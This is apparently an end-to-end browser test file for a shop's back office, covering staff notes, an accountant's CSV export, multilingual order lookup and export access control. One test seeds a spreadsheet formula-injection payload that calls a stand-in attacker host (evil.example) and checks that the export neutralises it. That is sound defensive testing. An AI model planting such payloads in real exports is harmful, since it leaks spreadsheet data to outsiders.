// Records through the browser (issue 30, points 5, 7 and 8): staff add an internal note by
// keyboard alone and it sits on the back office's timeline, never on the shopper's page; the
// accountant's CSV downloads per order and per line with a BOM, the columns and a shopper's formula
// neutralised (and is shown as a table for the README); and a shopper finds their order in
// Indonesian and in English, the link arriving in the sandbox's mailbox. axe on every new page.
import { randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";
import { expect, test, type Page } from "@playwright/test";
import Database from "better-sqlite3";
import { expectNoSeriousViolations } from "./support/axe";
import { db } from "./support/db";
import { E2E } from "./support/env";
import { mailTo, sandbox } from "./support/sandbox";
import { screenshotPath } from "./support/screenshots";
import { addToCart, checkoutToKredivo, shopper, tokenFromUrl } from "./support/shop";
import { newStaffEmail, seedStaff } from "./support/staff";

const COFFEE = "Java Preanger Arabica Beans 250 g";
const PASSWORD = "records-e2e-password-01";
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")';

test.beforeEach(async () => {
  await sandbox.reset();
});

/** A paid order of a shopper with an address of this test's own (the daily mail cap is per address). */
async function paidOrder(page: Page, tag: string) {
  const email = `records.${tag}.${randomBytes(3).toString("hex")}@example.com`;
  await addToCart(page, COFFEE, 1);
  await checkoutToKredivo(page, "", { ...shopper, email });
  await page.getByRole("button", { name: "Approve payment" }).click();
  await expect(page.getByTestId("order-status")).toHaveText("Paid");
  const token = tokenFromUrl(page.url());
  await mailTo(email);
  return { email, token, id: db.order(token)!.id, reference: token.slice(0, 8).toUpperCase() };
}

function write(sql: string, ...params: unknown[]) {
  const conn = new Database(E2E.env.DATABASE_URL);
  try {
    conn.prepare(sql).run(...params);
  } finally {
    conn.close();
  }
}

async function signInAsStaff(page: Page) {
  const email = newStaffEmail("records");
  seedStaff(email, PASSWORD);
  const name = `Dewi ${randomBytes(2).toString("hex")}`;
  write("UPDATE users SET name = ? WHERE email = ?", name, email);
  await page.goto("/admin/sign-in");
  await page.getByLabel("Email").fill(email);
  await page.getByLabel("Password").fill(PASSWORD);
  await page.getByRole("button", { name: "Sign in" }).click();
  await expect(page.getByRole("heading", { level: 1, name: "Orders" })).toBeVisible();
  return name;
}

/** Presses Tab until `target` has the focus (a keyboard user's way there). */
async function tabTo(page: Page, target: ReturnType<Page["getByLabel"]>, most = 80) {
  for (let i = 0; i < most; i++) {
    if (await target.evaluate((el) => el === document.activeElement)) return;
    await page.keyboard.press("Tab");
  }
  throw new Error("never reached by Tab");
}

test("staff add a note by keyboard alone: on the timeline, never on the shopper's page", async ({
  page,
}) => {
  const order = await paidOrder(page, "note");
  const name = await signInAsStaff(page);
  await page.goto(`/admin/orders/${order.id}`);
  // Another staff action first, so the timeline shows a note among people's actions.
  await page.getByRole("button", { name: "Check status with DOKU" }).first().click();
  await expect(page.getByTestId("check-status-result").first()).toBeVisible();
  const body = page.getByLabel("Add an internal note");
  await tabTo(page, body);

  // Empty first: the specific message, the focus back on the field.
  await page.keyboard.press("Tab");
  await expect(page.getByRole("button", { name: "Add note" })).toBeFocused();
  await page.keyboard.press("Enter");
  await expect(page.getByText("Write the note first: it cannot be empty.")).toBeVisible();
  await expect(body).toBeFocused();
  await expect(body).toHaveAttribute("aria-invalid", "true");

  const text = `Pembeli minta dikirim hari Senin ${randomBytes(2).toString("hex")}`;
  await page.keyboard.type(text);
  await page.keyboard.press("Tab");
  await page.keyboard.press("Enter");
  await expect(page.getByTestId("note-saved")).toHaveText("Note added to the timeline.");
  const note = page.getByTestId("admin-timeline").getByTestId("timeline-note");
  await expect(note).toHaveCount(1);
  await expect(note).toContainText(text);
  await expect(note).toContainText(`Note by ${name}`);
  // Its order.note_added entry is the note itself on the timeline: not shown twice.
  await expect(page.getByTestId("timeline-activity")).toHaveCount(1);
  await expect(body).toHaveValue("");
  await expectNoSeriousViolations(page, "order page with a note");
  await page
    .getByRole("region", { name: "Payment timeline" })
    .screenshot({ path: screenshotPath("admin-8-order-timeline-notes.png") });

  // The shopper's page (both languages) shows nothing of it.
  await page.goto(`/orders/${order.token}`);
  await expect(page.getByTestId("order-status")).toHaveText("Paid");
  expect(await page.content()).not.toContain(text);
});

test("the export downloads per order and per line: BOM, columns, formulas neutralised", async ({
  page,
}) => {
  const order = await paidOrder(page, "export");
  write("UPDATE orders SET customer_first_name = ? WHERE id = ?", FORMULA, order.id);
  await signInAsStaff(page);
  await page.goto(`/admin?q=${encodeURIComponent(order.email)}`);
  const form = page.getByTestId("export-form");
  await expect(form).toContainText("1 order");
  await expectNoSeriousViolations(page, "orders page with the export form");

  const download = async (shape: string) => {
    await form.getByLabel(shape).check();
    const [file] = await Promise.all([
      page.waitForEvent("download"),
      form.getByRole("button", { name: "Download CSV" }).click(),
    ]);
    expect(file.suggestedFilename()).toMatch(/^(orders|order-lines)-\d{4}-\d{2}-\d{2}\.csv$/);
    return readFileSync((await file.path())!);
  };

  const perOrder = await download("One row per order");
  expect([...perOrder.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const rows = perOrder.toString("utf8").slice(1).split("\r\n").filter(Boolean);
  expect(rows[0]).toBe(
    "Invoice numbers,Order reference,Placed (WIB),Paid (WIB),Customer,Email,Phone,Status,Fulfilment,Couriers,Tracking numbers,Subtotal (IDR),Shipping (IDR),Paid (IDR),Refunded (IDR),Net (IDR)",
  );
  expect(rows).toHaveLength(2);
  const row = rows[1]!;
  expect(row).toContain(`,${order.reference},`);
  expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klik"")`);
  expect(row).toContain(`,${order.email},`);
  expect(row).toMatch(/,paid,/);
  const total = db.order(order.token)!.total;
  expect(row.endsWith(`,${total},0,${total}`)).toBe(true);

  const perLine = await download("One row per line");
  const lines = perLine.toString("utf8").slice(1).split("\r\n").filter(Boolean);
  expect(lines[0]).toContain(
    ",Line kind,Line,SKU,Seller,Quantity,Unit price (IDR),Line total (IDR)",
  );
  // The coffee and its seller's shipping fee.
  expect(lines.slice(1).map((l) => /,(product|shipping),/.exec(l)?.[1])).toEqual([
    "product",
    "shipping",
  ]);

  // The export as the accountant's spreadsheet shows it, for the README.
  const table = perOrder.toString("utf8").slice(1);
  await page.setContent(`<!doctype html><html lang="en"><head><title>orders.csv</title>
    <style>body{font:13px system-ui;margin:16px}table{border-collapse:collapse}td,th{border:1px solid #ccc;padding:4px 6px;max-width:12rem;overflow-wrap:break-word;vertical-align:top;text-align:left}th{background:#f3f3f3}</style>
    </head><body><table id="t"></table></body></html>`);
  await page.evaluate((csv) => {
    // RFC 4180, as a spreadsheet reads it.
    const records: string[][] = [];
    let cell = "";
    let row: string[] = [];
    let quoted = false;
    for (let i = 0; i < csv.length; i++) {
      const c = csv[i]!;
      if (quoted) {
        if (c === '"' && csv[i + 1] === '"') {
          cell += '"';
          i++;
        } else if (c === '"') quoted = false;
        else cell += c;
      } else if (c === '"') quoted = true;
      else if (c === ",") {
        row.push(cell);
        cell = "";
      } else if (c === "\r" && csv[i + 1] === "\n") {
        row.push(cell);
        records.push(row);
        row = [];
        cell = "";
        i++;
      } else cell += c;
    }
    const t = document.getElementById("t") as HTMLTableElement;
    records.forEach((r, i) => {
      const tr = t.insertRow();
      for (const value of r) {
        const td = document.createElement(i === 0 ? "th" : "td");
        td.textContent = value;
        tr.appendChild(td);
      }
    });
  }, table);
  await expect(page.locator("#t tr")).toHaveCount(2);
  await page.locator("#t").screenshot({ path: screenshotPath("admin-9-export-table.png") });
});

test("find my order in Indonesian and English: the same answer, the link by email", async ({
  page,
  context,
}) => {
  const order = await paidOrder(page, "find");
  const invoice = db.attempts(order.id)[0]!.invoice_number;

  // Indonesian, from the footer link, with the reference.
  await context.addCookies([{ name: "NEXT_LOCALE", value: "id", url: E2E.env.APP_BASE_URL }]);
  await page.goto("/");
  await page.getByRole("link", { name: "Cari pesanan saya" }).click();
  await expect(page.getByRole("heading", { level: 1, name: "Cari pesanan saya" })).toBeVisible();
  await expectNoSeriousViolations(page, "find my order (id)");
  await page.getByRole("button", { name: "Kirimkan tautannya" }).click();
  await expect(page.getByText("Masukkan email yang kamu pakai saat checkout.")).toBeVisible();
  await page.getByLabel("Email").fill(order.email);
  await page.getByLabel("Referensi pesanan atau nomor invoice").fill(order.reference.toLowerCase());
  await page.getByRole("button", { name: "Kirimkan tautannya" }).click();
  const sent = page.getByTestId("find-order-sent");
  await expect(sent).toContainText("Terima kasih.");
  const answerId = await sent.textContent();
  // The email speaks the order's language (it was placed in English), whatever page asked.
  const [mail] = (await mailTo(order.email, 2)).filter((m) =>
    /^(Tautan pesanan|The link to your order)/.test(m.subject ?? ""),
  );
  expect(mail?.subject).toContain(order.reference);
  expect(mail?.text).toContain(`/orders/${order.token}`);

  // A reference that matches nothing: word for word the same answer, and no email.
  await page.goto("/orders/find");
  await page.getByLabel("Email").fill(order.email);
  await page.getByLabel("Referensi pesanan atau nomor invoice").fill("ZZZZZZZZ");
  await page.getByRole("button", { name: "Kirimkan tautannya" }).click();
  await expect(page.getByTestId("find-order-sent")).toHaveText(answerId!);

  // English, with the invoice number.
  await context.addCookies([{ name: "NEXT_LOCALE", value: "en", url: E2E.env.APP_BASE_URL }]);
  await page.goto("/orders/find");
  await expect(page.getByRole("heading", { level: 1, name: "Find my order" })).toBeVisible();
  await expectNoSeriousViolations(page, "find my order (en)");
  await page.getByLabel("Email").fill(order.email.toUpperCase());
  await page.getByLabel("Order reference or invoice number").fill(invoice);
  await page.getByRole("button", { name: "Email me the link" }).click();
  await expect(page.getByTestId("find-order-sent")).toContainText("Thank you.");
  await page.screenshot({ path: screenshotPath("shop-find-order.png"), fullPage: true });
  const links = (await mailTo(order.email, 3)).filter(
    (m) =>
      m.text?.includes(`/orders/${order.token}`) &&
      /Tautan pesanan|The link to your order/.test(m.subject ?? ""),
  );
  expect(links).toHaveLength(2);
});

test("the export is the back office's: no session, or a forged one, goes to sign-in", async ({
  playwright,
}) => {
  const anonymous = await playwright.request.newContext({ baseURL: E2E.env.APP_BASE_URL });
  try {
    // No session cookie: proxy.ts redirects before the handler runs.
    const bare = await anonymous.get("/admin/orders/export?per=line", { maxRedirects: 0 });
    expect([302, 307]).toContain(bare.status());
    expect(bare.headers()["location"]).toContain("/admin/sign-in");
    // A cookie that is no session: the handler's own requireAdmin() redirects, no CSV.
    const forged = await anonymous.get("/admin/orders/export", {
      maxRedirects: 0,
      headers: { cookie: "authjs.session-token=forged" },
    });
    expect([302, 303, 307]).toContain(forged.status());
    expect(forged.headers()["location"]).toContain("/admin/sign-in");
    expect(forged.headers()["content-type"] ?? "").not.toContain("text/csv");
  } finally {
    await anonymous.dispose();
  }
});

test("find my order works without JavaScript: the fields' messages, then the same answer", async ({
  browser,
}) => {
  const context = await browser.newContext({ javaScriptEnabled: false });
  await context.addCookies([{ name: "NEXT_LOCALE", value: "en", url: E2E.env.APP_BASE_URL }]);
  try {
    const page = await context.newPage();
    await page.goto(`${E2E.env.APP_BASE_URL}/orders/find`);
    await page.getByLabel("Email").fill("bukan-email");
    await page.getByRole("button", { name: "Email me the link" }).click();
    await expect(page.getByText("Enter an email address such as nama@contoh.com.")).toBeVisible();
    await expect(page.getByText("Enter the order reference or the invoice number.")).toBeVisible();
    await page.getByLabel("Email").fill("nobody.records@example.com");
    await page.getByLabel("Order reference or invoice number").fill("ZZZZZZZZ");
    await page.getByRole("button", { name: "Email me the link" }).click();
    await expect(page.getByTestId("find-order-sent")).toContainText("Thank you.");
  } finally {
    await context.close();
  }
});
